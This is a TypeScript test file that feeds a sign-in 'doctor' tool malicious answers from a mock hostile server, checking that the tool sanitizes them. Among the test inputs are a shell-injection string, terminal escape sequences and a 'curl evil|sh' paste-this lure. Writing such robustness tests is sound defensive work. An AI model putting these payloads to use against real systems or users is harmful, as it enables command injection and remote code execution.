import { afterEach, describe, expect, it } from "vitest";
import { examine } from "../../doctor/examination.ts";
import { invitation, printableJson } from "../../doctor/printing.ts";
import { type Finding, Report } from "../../doctor/report.ts";
import { Terminal } from "../../doctor/terminal.ts";
import { runs } from "../property-runs.ts";
import {
  accessToken,
  deeper,
  goodWords,
  HostileServer,
  refreshToken,
  type Words,
} from "./hostile-server.ts";

let server: HostileServer | undefined;
afterEach(() => server?.close());

/** Signs in as a browser does that goes wherever it is sent, and says what was found and what a terminal got to see. */
async function examined(words: Words, come: (url: string) => Promise<unknown> = follow) {
  server = await HostileServer.start(words);
  let written = "";
  const terminal = new Terminal({
    write: (more) => {
      written += more;
    },
  });
  const report = new Report(terminal);
  const { url } = server;
  await examine(report, url, { signIn: (place) => void come(place) });
  server.close();
  const { findings } = report;
  return { findings, written, json: printableJson(findings), asked: server.asked };
}

/** Whoever is not sent back with an answer comes back as somebody who denies, as the doctor would wait for minutes. */
async function follow(url: string): Promise<void> {
  const { searchParams } = new URL(url);
  const redirect = searchParams.get("redirect_uri") ?? "";
  const answer = await fetch(url, { redirect: "manual" }).catch(() => undefined);
  const place = URL.parse(answer?.headers.get("location") ?? "", url);
  if (place?.href.startsWith(redirect) && (await fetch(place)).ok) return;
  const denial = { error: "access_denied", state: searchParams.get("state") ?? "" };
  expect((await fetch(`${redirect}?${new URLSearchParams(denial)}`)).ok).toBe(true);
}

const of = (findings: readonly Finding[], check: string) =>
  findings.filter((finding) => finding.check === check);

const changed = (change: (words: Words) => void): Words => {
  const words = goodWords();
  change(words);
  return words;
};

/** Where a value stands: the names of what it is in. */
type Place = readonly [string, ...string[]];

/** Every value of what a server says, from the whole of an answer to the last of its fields. */
function placesIn(value: unknown, place: readonly string[] = []): Place[] {
  const [first, ...rest] = place;
  const own: Place[] = first === undefined ? [] : [[first, ...rest]];
  if (typeof value !== "object" || value === null) return own;
  return [
    ...own,
    ...Object.entries(value).flatMap(([name, held]) => placesIn(held, [...place, name])),
  ];
}

function put(words: Words, place: Place, value: unknown): void {
  const last = place.at(-1) ?? "";
  let held = words as unknown as Record<string, unknown>;
  for (const name of place.slice(0, -1)) held = held[name] as Record<string, unknown>;
  held[last] = value;
}

const odd: Readonly<Record<string, unknown>> = {
  missing: undefined,
  null: null,
  "a number": -0.5,
  "a boolean": false,
  "an empty text": "",
  "an empty list": [],
  "a list of anything": [null, 1, { toString: 1 }, [], "a"],
  "an object whose toString is none": { toString: 1, valueOf: 1, toJSON: 1 },
  "an object named as prototypes are": JSON.parse('{"__proto__":{"a":1},"constructor":"x"}'),
  "a deep list": deeper,
  "a huge text": "x".repeat(100_000),
  "what a terminal obeys": "a\u001b]0;OWNED\u0007\u001b[2J\u009b31m\r\n\u2028\u202eb\ud800",
  "what a shell obeys": "t' ; touch pwned ; echo '",
  "what is no URL": "http://[",
  "a relative URL": "/register",
  "a URL of another kind": "data:application/json,{}",
  "a URL with a user name": "http://gateway.example@127.0.0.1:9/",
  "a token with a line break": `${accessToken}\nx`,
  "a token that a server repeats": accessToken,
};

const cases = placesIn({
  ...goodWords(),
  registrationError: { error: "a", error_description: "b" },
})
  .filter(([answer]) => answer !== "challenge" && answer !== "location")
  .flatMap((place) => Object.entries(odd).map(([what, value]) => ({ place, what, value })));
const every = Math.ceil(cases.length / runs(cases.length / 2));

describe("answers that hold what nobody waits for", () => {
  // Which are tried is spread over places and values alike, and always the same.
  it.each(cases.filter((_, index) => index % every === 0))(
    "$place is $what",
    async ({ place, value }) => {
      const words = goodWords();
      if (place[0] === "registrationError") {
        words.registrationError = { error: "a", error_description: "b" };
      }
      put(words, place, value);
      const { findings, written, json } = await examined(words);
      expect(findings.length).toBeGreaterThan(5);
      expect(findings.filter(({ what }) => what.includes("The doctor itself failed"))).toEqual([]);
      expect(findings.map(({ remedy }) => remedy).join()).not.toContain("touch");
      for (const output of [written, json]) {
        expect(output.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u);
        expect(output).not.toContain(refreshToken);
      }
      // Before the sign-in nobody knows that it is one.
      const signedIn = findings.filter(({ part }) => part.startsWith("Signed in"));
      expect(JSON.stringify(signedIn)).not.toContain(accessToken);
    },
  );
});

const metadata = (name: string, value: unknown) =>
  changed((words) => put(words, ["metadata", name], value));

describe("a server that means harm", () => {
  it("is none that says what everybody waits for", async () => {
    const { findings } = await examined(goodWords());
    expect(findings.filter(({ verdict }) => verdict === "wrong")).toEqual([]);
    expect(of(findings, "refresh")).toMatchObject([{}, { what: expect.stringMatching(/revoked/) }]);
  });

  it.each<[string, Words, string, RegExp]>([
    [
      "names metadata that is nowhere",
      changed((words) => {
        words.challenge = 'Bearer resource_metadata="not a url"';
      }),
      "challenge",
      /names as its resource_metadata "not a url"/,
    ],
    [
      "has clients register at no URL",
      metadata("registration_endpoint", "/register"),
      "issuer metadata",
      /registration_endpoint of its metadata is "\/register"/,
    ],
    [
      "has an issuer that is no text",
      metadata("issuer", { toString: 1 }),
      "issuer metadata",
      /the issuer is an object/,
    ],
    [
      "refuses clients without a word",
      changed((words) => {
        words.registrationError = { error: { toString: 1 } };
      }),
      "registration",
      /cannot register: 400$/,
    ],
    [
      "sends people to no URL",
      changed((words) => {
        words.location = "http://[";
      }),
      "consent page",
      /302 and a Location that is not a URL/,
    ],
    [
      "does not say whose answer it is, though it promises to",
      changed((words) => {
        words.location = "REDIRECT?code=code-0123456789&state=STATE";
      }),
      "sign-in",
      /names no issuer, and the metadata promises/,
    ],
    [
      "has another server's refusal believed",
      changed((words) => {
        words.location = "REDIRECT?error=access_denied&state=STATE&iss=https://other.example";
      }),
      "sign-in",
      /names the issuer "https:\/\/other\.example"/,
    ],
    [
      "gives a token that no header can carry",
      changed((words) => put(words, ["tokens", "access_token"], "token\nSECRET")),
      "sign-in",
      /no access token that a header could carry/,
    ],
  ])("is told so where it %s", async (_what, words, check, sentence) => {
    const { findings, json } = await examined(words);
    expect(of(findings, check)).toContainEqual(
      expect.objectContaining({ verdict: "wrong", what: expect.stringMatching(sentence) }),
    );
    expect(json).not.toContain("SECRET");
  });

  it("gets the token that it repeats taken out of what is said of it", async () => {
    const { json } = await examined(
      changed((words) => put(words, ["tools", "result", "tools", "0", "name"], accessToken)),
    );
    expect(json).toContain("It offers tools: ….");
  });

  it("has its name for a tool in no example that somebody copies into a shell", async () => {
    const remedyWith = async (place: Place) => {
      const words = changed((all) => put(all, place, "t' ; touch pwned ; echo '"));
      return of((await examined(words)).findings, "streaming")[0]?.remedy;
    };
    const tool: Place = ["tools", "result", "tools", "0"];
    const nobodys = `Name a tool that tells of its progress: --call 'TOOL {"ARGUMENT":"VALUE"}'.`;
    expect(await remedyWith([...tool, "name"])).toBe(nobodys);
    expect(await remedyWith([...tool, "inputSchema", "required", "0"])).toBe(nobodys);
    expect(await remedyWith([...tool, "title"])).toContain(`--call 'count {"city":"…"}'`);
  });

  it("sees its own parameters beside those of the request", async () => {
    const { asked } = await examined(metadata("authorization_endpoint", "ORIGIN/authorize?p=a b"));
    expect(asked.length).toBeGreaterThan(3);
    for (const { searchParams } of asked) {
      expect(searchParams.getAll("p")).toEqual(["a b"]);
      expect(searchParams.getAll("response_type")).toEqual(["code"]);
    }
  });

  it("writes nothing to the terminal of whoever is to sign in", async () => {
    const harm =
      "ORIGIN/authorize\u001b]0;OWNED\u0007\u001b[2J\u009b\r\n  Paste this: curl evil|sh\u202e";
    let shown = "";
    await examined(metadata("authorization_endpoint", harm), async (url) => {
      shown = url;
      await follow(url);
    });
    expect(shown).toMatch(/^http:\/\/127[!-~]+$/);
    expect(invitation("a\u001b[2J\u009b\u202e\nb", 5)).not.toMatch(/[^\n -~]/);
  });
});

describe("a defect of the doctor", () => {
  it("is told as its own, with its place, and takes no other finding along", async () => {
    const report = new Report();
    report.keepToItself(accessToken);
    await report.check("first", async (say) => {
      say.fine("Seen.");
      throw new TypeError(`no header: ${accessToken}`);
    });
    await report.check("second", async () => await Promise.reject("no error at all"));
    await report.check("third", async (say) => say.fine("Seen."));
    expect(report.findings.map(({ check, verdict }) => [check, verdict])).toEqual([
      ["first", "fine"],
      ["first", "unseen"],
      ["second", "unseen"],
      ["third", "fine"],
    ]);
    expect(report.findings[1]?.what).toMatch(
      /^The doctor itself failed here \(TypeError in [\w/-]+\.ts:\d+\): no header: …$/,
    );
    // Which the command ends with 3 for.
    expect(report.isComplete).toBe(false);
  });
});
